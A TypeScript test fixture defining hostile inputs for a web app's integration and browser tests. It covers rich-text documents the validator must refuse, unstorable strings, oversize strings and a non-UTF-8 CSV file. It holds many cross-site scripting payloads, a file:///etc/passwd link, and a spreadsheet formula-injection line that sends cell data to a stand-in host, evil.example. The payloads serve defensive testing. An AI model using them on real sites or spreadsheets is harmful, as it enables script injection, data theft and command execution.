/**
 * Hostile input for every field that is stored and shown again. Shared by the integration test
 * (tests/integration/hostile-input.test.ts), the browser test's seed (tests/e2e/seed-hostile.ts)
 * and the browser test itself (tests/e2e/hostile.spec.ts).
 *
 * - `legitimateText`: text a member may really type. It must be stored and shown exactly as typed
 *   (HTML-looking text is text, not markup).
 * - `hostileDocs`: rich-text documents the validator must refuse (scripts, unsafe links, unknown
 *   nodes and marks, smuggled attributes).
 * - `unstorableText`: strings Postgres cannot store as typed (NUL, lone surrogates): refused with
 *   a field error, never a 500.
 * - `oversize*`: 1 MB and 10 MB strings, refused by every length limit before any parsing.
 * - `invalidUtf8Csv`: a CSV file whose bytes are not UTF-8 (a CP949 export from a Korean
 *   spreadsheet): the import refuses the file and says why.
 */

/**
 * The function each payload tries to call. The browser test exposes it on `window` and fails when
 * it is ever called; where it is not defined, a payload that runs throws a ReferenceError (a page
 * error, which fails the test too).
 */
export const PWNED = "__pwned";

const js = (tag: string) => `${PWNED}('${tag}')`;

/** Plain text that is legitimate as typed, and must round-trip byte for byte. */
export const legitimateText = {
  scriptTag: `<script>${js("script")}</script>`,
  imgOnerror: `<img src=x onerror="${js("img")}">`,
  svgOnload: `<svg onload="${js("svg")}"><a xlink:href="javascript:${js("svg-a")}">x</a></svg>`,
  iframeSrcdoc: `<iframe srcdoc="<script>parent.${js("iframe")}</script>"></iframe>`,
  attributeBreakout: `" autofocus onfocus="${js("attr")}" x="`,
  styleBreakout: `</style><style>*{background:url("javascript:${js("style")}")}</style>`,
  templateInjection: "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)}",
  javascriptUrlText: `javascript:${js("text-url")}`,
  dataUrlText: `data:text/html;base64,${Buffer.from(`<script>${js("data")}</script>`).toString("base64")}`,
  markdownLink: `[click](javascript:${js("md")}) ![x](data:text/html,<script>${js("md-img")}</script>)`,
  csvFormula: '=HYPERLINK("http://evil.example/?x="&A1,"click") +cmd|\' /C calc\'!A0 @SUM(1+1)',
  htmlEntities: "&lt;script&gt; &amp;amp; &#x3C;b&#x3E; &quot;",
  zeroWidth: "정\u200b책\u200c이\u200d름\u2060\ufeff끝 👩‍💻 👨‍👩‍👧",
  rightToLeftOverride: "invoice\u202Egpj.exe \u202Dnormal\u202C \u2066isolate\u2069 \u200F",
  extensionB: "𠀀 𪜀 𠮷野家 𡈽 𤭢 𨳒 𩸽 𪚲",
  koreanChinese: "인공지能 규제 「新一代人工智能发展规划」 한자 漢字 𠀀 테스트",
  combining: "e\u0301 한\u1100\u1161 Z̸̢̛̗̦͇̯̳̝̰̤̀̈́͊͂̓ͅa",
  whitespaceInside: "앞\t탭\u00a0NBSP\u3000전각 공백",
} as const;

export type LegitimateName = keyof typeof legitimateText;

/** Strings Postgres cannot hold as typed: refused with a clear field error. */
export const unstorableText = {
  nul: "before\u0000after",
  loneHighSurrogate: "before\uD800after",
  loneLowSurrogate: "before\uDC00after",
} as const;

type Json = Record<string, unknown>;
const text = (value: string, marks?: Json[]): Json => (marks ? { type: "text", text: value, marks } : { type: "text", text: value });
const paragraph = (...inline: Json[]): Json => ({ type: "paragraph", content: inline });
const doc = (...blocks: Json[]): Json => ({ type: "doc", content: blocks });
const link = (href: string, extra: Json = {}): Json => ({ type: "link", attrs: { href, ...extra } });

/** A legitimate document carrying every legitimate string as text (and one safe link). */
export function legitimateDoc(): Json {
  return doc(
    ...Object.values(legitimateText).map((value) => paragraph(text(value))),
    paragraph(text("안전한 링크", [link("https://example.org/?q=<script>")])),
  );
}

/** Rich text the validator must refuse. Each name says what it tries. */
export const hostileDocs: Record<string, Json> = {
  javascriptLink: doc(paragraph(text("click", [link(`javascript:${js("link")}`)]))),
  javascriptLinkMixedCase: doc(paragraph(text("click", [link(`JaVaScRiPt:${js("link-case")}`)]))),
  javascriptLinkTab: doc(paragraph(text("click", [link(`java\tscript:${js("link-tab")}`)]))),
  javascriptLinkLeadingSpace: doc(paragraph(text("click", [link(` \u0001javascript:${js("link-space")}`)]))),
  javascriptLinkEntity: doc(paragraph(text("click", [link(`javascript&colon;${js("link-entity")}`)]))),
  dataLink: doc(paragraph(text("click", [link(`data:text/html,<script>${js("data-link")}</script>`)]))),
  dataLinkBase64: doc(paragraph(text("click", [link("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]))),
  vbscriptLink: doc(paragraph(text("click", [link("vbscript:msgbox(1)")]))),
  fileLink: doc(paragraph(text("click", [link("file:///etc/passwd")]))),
  relativeLink: doc(paragraph(text("click", [link("/api/policies/export.csv")]))),
  protocolRelativeLink: doc(paragraph(text("click", [link("//evil.example/x")]))),
  scriptNode: doc({ type: "script", content: [text(js("script-node"))] }),
  htmlNode: doc({ type: "html", attrs: { html: `<img src=x onerror="${js("html-node")}">` } }),
  imageNode: doc({ type: "image", attrs: { src: "x", onerror: js("image-node") } }),
  iframeNode: doc({ type: "iframe", attrs: { src: `javascript:${js("iframe-node")}` } }),
  unknownMark: doc(paragraph(text("x", [{ type: "onclick", attrs: { value: js("mark") } }]))),
  styleMark: doc(paragraph(text("x", [{ type: "textStyle", attrs: { style: "background:url(javascript:alert(1))" } }]))),
  topNotDoc: { type: "paragraph", content: [text("x")] },
  textWithoutString: doc(paragraph({ type: "text", text: { toString: "x" } })),
  blockInInline: doc(paragraph(paragraph(text("nested")))),
  deepNesting: (() => {
    let node: Json = paragraph(text("deep"));
    for (let i = 0; i < 60; i++) node = { type: "blockquote", content: [node] };
    return doc(node);
  })(),
  mentionWithoutId: doc(paragraph({ type: "mention", attrs: { label: "<img src=x onerror=alert(1)>" } })),
};

/**
 * Documents that are accepted (the mention names a real member), but only after the validator drops what the schema does not
 * define: attributes smuggled into a link mark or a node never reach the page.
 */
export const smuggledAttributeDocs = (mentionUserId: string): Record<string, { doc: Json; mustNotContain: string[] }> => ({
  linkEventHandler: {
    doc: doc(paragraph(text("link", [link("https://example.org", { onclick: js("onclick"), onmouseover: js("hover"), style: "position:fixed" })]))),
    mustNotContain: ["onclick", "onmouseover", "position:fixed"],
  },
  paragraphAttributes: {
    doc: doc({ type: "paragraph", attrs: { onclick: js("p"), class: "x", style: "display:none" }, content: [text("p")] }),
    mustNotContain: ["onclick", "display:none"],
  },
  mentionAttributes: {
    doc: doc(paragraph({ type: "mention", attrs: { id: mentionUserId, label: `<img src=x onerror="${js("mention")}">`, onclick: js("mention-click") } })),
    mustNotContain: ["onclick"],
  },
});

/** `size` bytes of ASCII (every char one UTF-8 byte), with a script tag at the start. */
export function oversizeString(size: number): string {
  const head = `<script>${js("oversize")}</script>`;
  return head + "x".repeat(Math.max(0, size - head.length));
}

export const ONE_MB = 1024 * 1024;
export const TEN_MB = 10 * ONE_MB;

/** A rich-text document whose one text node is `size` characters long. */
export function oversizeDoc(size: number): Json {
  return doc(paragraph(text(oversizeString(size))));
}

/**
 * A CSV file as CP949 (EUC-KR) bytes — what a Korean spreadsheet saves by default — followed by
 * lone UTF-8 continuation bytes. Not valid UTF-8: decoding it (the browser's `file.text()`, the
 * command line's `readFileSync(…, "utf8")`) yields U+FFFD replacement characters.
 */
export function invalidUtf8CsvBytes(): Uint8Array {
  const header = Buffer.from("title_zh,title_ko\r\n", "ascii");
  // "정책" in CP949 is C1 A4 C3 A5; "政策" in GBK is D5 FE B2 DF.
  const row = Uint8Array.from([0xd5, 0xfe, 0xb2, 0xdf, 0x2c, 0xc1, 0xa4, 0xc3, 0xa5, 0x80, 0xbf, 0x0d, 0x0a]);
  return Uint8Array.from([...header, ...row]);
}

/** The same file decoded the way the import form and the command line read it. */
export function invalidUtf8Csv(): string {
  return new TextDecoder("utf-8").decode(invalidUtf8CsvBytes());
}

/** RFC 4180 quoting, for building import files from the corpus. */
export function csvCell(value: string): string {
  return /[",\r\n]|^\s|\s$/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

/**
 * Legitimate strings that survive the policy import unchanged. The import trims every cell (as
 * the form trims every input), so strings with leading or trailing whitespace are left out.
 */
export const csvSafeLegitimate = Object.fromEntries(
  Object.entries(legitimateText).filter(([, value]) => value === value.trim()),
) as Partial<Record<LegitimateName, string>>;
